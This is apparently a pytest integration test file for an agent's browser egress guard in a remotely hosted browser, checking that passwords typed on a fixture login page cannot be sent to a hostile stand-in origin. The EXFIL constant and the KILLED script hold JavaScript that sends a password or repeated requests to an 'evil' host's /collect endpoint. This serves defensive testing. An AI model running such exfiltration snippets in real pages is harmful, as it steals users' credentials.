"""What stands and what does not around a page in a browser elsewhere; each weakness is real."""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from agent.browser.egress import egress_switches
from agent.browser.remote.endpoint import Remote
from agent.browser.remote.refusals import BrowserAway, BrowserWeaker
from agent.browser.remote.weaknesses import NEEDED
from agent.errors import UsageError
from agent.vault.origin import OriginPolicy
from tests.integration.browser.acts import PASSWORD, eventually, received, type_in
from tests.integration.browser.test_egress import send
from tests.standins.browsers import chromium
from tests.standins.processes import started
from tests.standins.relay import without

if TYPE_CHECKING:
    from pathlib import Path

    from fixtures.login_site.accounts import Account
    from fixtures.login_site.serving import Site
    from tests.integration.conftest import Opener
    from tests.standins.browsers import Elsewhere

pytestmark = pytest.mark.browser

ALL = ["other_machine", "shared_browser", "switches", "sandbox", "recording"]
EXFIL = "([evil, value]) => fetch(`${evil}/collect?${value}`, {mode: 'no-cors'}).catch(() => 0)"


async def typed_and_sent(
    opener: Opener, site: Site, remote: Remote, way: str = ""
) -> tuple[Account, list[str]]:
    """Type a password, and have the page send it to the hostile site."""
    account = site.new_account()
    async with opener(account, remote=remote) as session:
        await session.page.goto(f"{site.origin}/login")
        await type_in(session, PASSWORD, "password")
        if way:
            await send(session.page, site, way, account.password)
        else:
            await session.page.evaluate(EXFIL, [site.evil, account.password])
        return account, session.notices


@pytest.mark.parametrize("kind", ["cdp", "plain", "willing"])
async def test_the_guard_stands_in_a_browser_elsewhere(
    kind: str, open_session: Opener, site: Site, request: pytest.FixtureRequest
) -> None:
    there: Elsewhere = request.getfixturevalue(kind)
    account, _ = await typed_and_sent(open_session, site, Remote.of(there.url, None, ALL))
    assert received(site, account) == frozenset()


async def test_a_browser_whose_requests_cannot_be_guarded_is_refused_and_leaks_where_allowed(
    cdp: Elsewhere, open_session: Opener, site: Site
) -> None:
    with without("Fetch.enable", cdp.url) as url:
        with pytest.raises(BrowserWeaker, match=r"less than is promised: guard$"):
            await typed_and_sent(open_session, site, Remote.of(url, None, ALL))
        allowing = Remote.of(url, None, [*ALL, "guard"])
        account, notices = await typed_and_sent(open_session, site, allowing)
    assert any(line.startswith("weaker with this browser: guard:") for line in notices)
    await eventually(lambda: received(site, account))


async def test_a_browser_that_masks_nothing_cannot_be_allowed(
    cdp: Elsewhere, open_session: Opener
) -> None:
    with (
        without("adoptedStyleSheets", cdp.url) as url,
        pytest.raises(BrowserWeaker, match="nothing is masked"),
    ):
        async with open_session(None, remote=Remote.of(url, None, [*ALL, "guard"])):
            pass


async def test_a_browser_of_which_a_part_is_held_back_is_told_so(
    cdp: Elsewhere, open_session: Opener
) -> None:
    with (
        without("Page.addScriptToEvaluateOnNewDocument", cdp.url) as url,
        pytest.raises(BrowserAway, match="does not do what the runner asks"),
    ):
        async with open_session(None, remote=Remote.of(url, None, ALL)):
            pass


@pytest.mark.parametrize("kind", ["cdp", "plain", "willing"])
async def test_without_the_switches_a_workers_socket_passes_the_guard(
    kind: str, open_session: Opener, site: Site, request: pytest.FixtureRequest
) -> None:
    there: Elsewhere = request.getfixturevalue(kind)
    leaks = kind != "willing"
    remote = Remote.of(there.url, None, ALL)
    account, notices = await typed_and_sent(open_session, site, remote, "a worker's socket")
    assert any(": switches:" in line for line in notices) is leaks
    if leaks:
        await eventually(lambda: received(site, account))
    assert bool(received(site, account)) is leaks


async def test_a_browser_started_with_the_switches_is_not_missing_them(
    open_session: Opener, site: Site, tmp_path: Path
) -> None:
    policy = OriginPolicy.parse([site.origin])
    switches = [*egress_switches([policy], {}), *NEEDED, "--enable-automation"]
    allowed = [name for name in ALL if name != "switches"]
    with chromium(tmp_path, switches) as there:
        remote = Remote.of(there.url, None, allowed)
        account, _ = await typed_and_sent(open_session, site, remote, "a worker's socket")
    assert received(site, account) == frozenset()


async def test_two_runs_in_one_browser_each_have_their_guard(
    cdp: Elsewhere, open_session: Opener, site: Site
) -> None:
    remote = Remote.of(cdp.url, None, ALL)
    async with open_session(site.new_account(), remote=remote) as other:
        account, _ = await typed_and_sent(open_session, site, remote)
        assert received(site, account) == frozenset()
        await other.page.goto(f"{site.origin}/login")
        assert other.guard.violations == []
        assert len(cdp.pages()) == 1


KILLED = """
import asyncio, sys
from agent.browser.folder import PrivateFolder
from agent.browser.opening import open_session
from agent.browser.options import BrowserOptions
from agent.browser.remote.endpoint import Remote
from agent.browser.remote.weaknesses import WORDS
from agent.vault.open import RunSecrets

async def run(endpoint, site, evil):
    options = BrowserOptions(remote=Remote.of(endpoint, None, WORDS), record=False)
    with PrivateFolder.create() as folder, RunSecrets(()) as secrets:
        async with open_session(options, secrets, folder) as session:
            judged = session.guard._judged
            stop = ("Fetch.failRequest", {"errorReason": "BlockedByClient"})
            session.guard._judged = lambda one: stop if evil in one["url"] else judged(one)
            await session.page.goto(site)
            await session.page.evaluate('''(evil) => { setInterval(() => {
              for (let i = 0; i < 3; i++)
                fetch(evil + "/collect?killed", {mode: "no-cors"}).catch(() => 0); }, 5) }''', evil)
            while session.guard.requests < 200:
                await session.page.wait_for_timeout(20)
            print("going", flush=True)
            await asyncio.Event().wait()

asyncio.run(run(*sys.argv[1:]))
"""


@pytest.mark.parametrize("kind", ["cdp", "plain"])
def test_what_the_guard_holds_stays_held_when_the_runner_is_killed(
    kind: str, site: Site, request: pytest.FixtureRequest
) -> None:
    there: Elsewhere = request.getfixturevalue(kind)
    words = [sys.executable, "-c", KILLED, there.url, site.origin, site.evil]
    with started(words, stdout=subprocess.PIPE) as runner:
        assert runner.stdout is not None
        assert runner.stdout.readline() == "going\n"
        runner.kill()
        runner.wait()
        # The server may take a while to end a browser whose page is so busy. Until then the
        # runner's driver is left alone: what it does when its runner is gone is looked at too.
        there.wait_until_empty()
    assert b"killed" not in site.evil_log.everything()


async def test_what_cannot_be_done_elsewhere_is_told_before_anything_is_opened(
    open_session: Opener,
) -> None:
    nowhere = Remote.of("http://127.0.0.1:9/", None, ALL)
    with pytest.raises(UsageError, match="no window"):
        async with open_session(None, remote=nowhere, headed=True):
            pass
    with pytest.raises(UsageError, match="downloaded"):
        async with open_session(None, remote=nowhere, downloads=True):
            pass
